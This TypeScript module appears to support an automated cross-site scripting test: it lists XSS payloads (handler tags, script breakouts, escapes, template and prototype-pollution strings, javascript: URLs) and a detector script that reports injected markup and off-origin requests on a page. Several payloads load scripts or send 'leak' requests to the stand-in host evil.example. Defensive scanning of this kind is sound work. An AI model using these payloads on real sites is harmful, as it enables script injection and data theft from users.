/** Script of a payload: leaves a mark if it runs. */
const DO = '__xss=1';

const TAGS = [
  'img src=x',
  'svg',
  'video src=x',
  'audio src=x',
  'body',
  'input autofocus',
  'details open',
  'iframe',
  'object data=x',
  'math',
  'x-own tabindex=1',
  'select autofocus',
] as const;
const HANDLERS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover'] as const;

const HANDLED = TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}=${DO}>`));

const ELEMENTS = [
  `<script>${DO}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `"><script>${DO}</script>`,
  `'><script>${DO}</script>`,
  `</title><script>${DO}</script>`,
  `</textarea><script>${DO}</script>`,
  `</style><script>${DO}</script>`,
  `</script><script>${DO}</script>`,
  `<!--><script>${DO}</script>-->`,
  `<![CDATA[><script>${DO}</script>]]>`,
  `<scr<script>ipt>${DO}</scr</script>ipt>`,
  `<script x>${DO}</script x>`,
  `<script/src=data:,${DO}>`,
  `<script type=module>${DO}</script>`,
  `<svg><script>${DO}</script></svg>`,
  `<svg><script href=data:,${DO} />`,
  `<svg><a xlink:href=javascript:${DO}><text y=9>go</text></a></svg>`,
  `<svg><animate onbegin=${DO} attributeName=x>`,
  `<svg><set attributeName=onmouseover to=${DO}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${DO}>`,
  `<noscript><p title="</noscript><img src=x onerror=${DO}>">`,
  `<template><img src=x onerror=${DO}></template>`,
  `<iframe src=javascript:${DO}></iframe>`,
  `<iframe srcdoc="<script>parent.${DO}</script>"></iframe>`,
  `<object data=javascript:${DO}></object>`,
  `<embed src=javascript:${DO}>`,
  `<form action=javascript:${DO}><button>go</button></form>`,
  `<button formaction=javascript:${DO}>go</button>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${DO}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<style>*{background:url(//evil.example/leak)}</style>`,
  `<div style="background:url(//evil.example/leak)">`,
  `<img src=//evil.example/leak.png>`,
  `<img srcset="//evil.example/leak.png 1x">`,
  `<a href=javascript:${DO}>go</a>`,
  `<a href="java&#115;cript:${DO}">go</a>`,
  `<marquee onstart=${DO}>`,
  `<video><source onerror=${DO}></video>`,
  `<img/src=x/onerror=${DO}>`,
  `<img src=x onerror="${DO}`,
  `<img src="x\` \`<script>${DO}</script>"\` \`>`,
] as const;

const ESCAPES = [
  `" onmouseover="${DO}`,
  `' onfocus='${DO}' autofocus='`,
  `\`-${DO}-\``,
  `';${DO};//`,
  `"-${DO}-"`,
  `\\";${DO};//`,
  `&lt;script&gt;${DO}&lt;/script&gt;`,
  `&#60;img src=x onerror=${DO}&#62;`,
  `%3Cscript%3E${DO}%3C/script%3E`,
  `\\u003cscript\\u003e${DO}\\u003c/script\\u003e`,
  `＜script＞${DO}＜/script＞`,
  `{{constructor.constructor('${DO}')()}}`,
  `\${${DO}}`,
  `<%= ${DO} %>`,
  `#{${DO}}`,
  `[go](javascript:${DO})`,
  `![x](x"onerror="${DO})`,
  `__proto__[innerHTML]=<img src=x onerror=${DO}>`,
] as const;

/** URLs that run a script or leave the application if they become links. */
export const URLS = [
  `javascript:${DO}`,
  `JaVaScRiPt:${DO}`,
  `javascript://example.com/%0a${DO}`,
  `vbscript:${DO}`,
  `data:text/html,<script>${DO}</script>`,
  `view-source:javascript:${DO}`,
] as const;

/** Texts that have an effect if a page treats them as markup, script or URLs. */
export const PAYLOADS: readonly string[] = [...HANDLED, ...ELEMENTS, ...ESCAPES, ...URLS];

/** Script that finds the effects of payloads on a page: anything that no page of the application contains. */
export const TRACES = `(async () => {
  const served = new DOMParser().parseFromString(await (await fetch('/')).text(), 'text/html');
  const own = [...served.scripts].map(({ text }) => text);
  const isOwn = (script) => (script.src === '' ? own.includes(script.text) : script.src.startsWith(location.origin + '/'));
  const elements = [...document.querySelectorAll('*')];
  const isSafe = (link) => ['http:', 'https:', ''].includes(link.protocol ?? '');
  return [
    ...(window.__xss === undefined ? [] : ['a payload ran']),
    ...elements.filter((element) => element.getAttributeNames().some((name) => name.startsWith('on'))).map((element) => 'handler: ' + element.outerHTML),
    ...elements.filter((element) => element.matches('iframe, object, embed, base, marquee, meta[http-equiv], template, math, x-own, video, audio')).map((element) => 'element: ' + element.outerHTML),
    ...[...document.links].filter((link) => !isSafe(link)).map((link) => 'link: ' + link.outerHTML),
    ...[...document.scripts].filter((script) => !isOwn(script)).map((script) => 'script: ' + script.outerHTML),
    ...performance.getEntriesByType('resource').filter(({ name }) => name.startsWith('http') && !name.startsWith(location.origin + '/')).map(({ name }) => 'request: ' + name),
  ];
})()`;
